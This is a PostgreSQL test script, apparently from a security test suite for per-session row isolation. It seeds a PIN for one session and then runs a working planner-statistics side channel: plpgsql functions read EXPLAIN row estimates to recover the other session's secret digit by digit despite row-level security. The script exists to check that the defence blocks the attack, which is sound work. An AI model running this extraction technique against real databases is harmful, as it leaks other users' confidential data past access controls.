-- vector: reads a secret of another session character by character from EXPLAIN estimates only
-- class: covert
-- actor: attacker
-- precondition: ANALYZEd; text < and = are leakproof so MCV/histogram values are compared even under RLS
-- expected with sessmem: BLOCKED
-- stopped by: planner hooks: no statistics of protected tables
-- severity: critical
\i :adapter
\ir _sane.sql
\set got ''
begin; select t_bind('sess-B'); insert into public.messages(session_id,role,content) select 'sess-B','user','PIN=4821' from generate_series(1,400) g; commit;
begin; select t_bind('sess-C'); insert into public.messages(session_id,role,content) select 'sess-C','user','hello '||g%40 from generate_series(1,600) g; commit;
\c - :su
analyze public.messages;
\c - :app
begin;
select t_bind('sess-A');
create function pg_temp.est(q text) returns bigint language plpgsql as $$ declare r json; begin execute 'explain (format json) '||q into r; return (r->0->'Plan'->>'Plan Rows')::bigint; end $$;
create function pg_temp.extract(pfx text, n int) returns text language plpgsql as $$
declare cur text := pfx; best text; e bigint; mx bigint; c text;
begin
  for i in 1..n loop
    mx := 0; best := null;
    foreach c in array array['0','1','2','3','4','5','6','7','8','9'] loop
      e := pg_temp.est(format('select 1 from public.messages where session_id=%L and content >= %L and content < %L','sess-B', cur||c, cur||chr(ascii(c)+1)));
      if e > mx then mx := e; best := c; end if;
    end loop;
    if mx <= 2 then return cur||'?'; end if;
    cur := cur||best;
  end loop;
  return cur;
end $$;
select pg_temp.extract('PIN=',4) as got \gset
rollback;
\c - :su
select (:'got' = 'PIN=4821') as leak \gset
select length(:'got') as ran \gset
-- the oracle must have produced a number, otherwise the attack code itself did not run
select (:ran = 0) as norun \gset
\if :norun
\set other 'attack code did not run'
\endif
\ir _verdict.sql
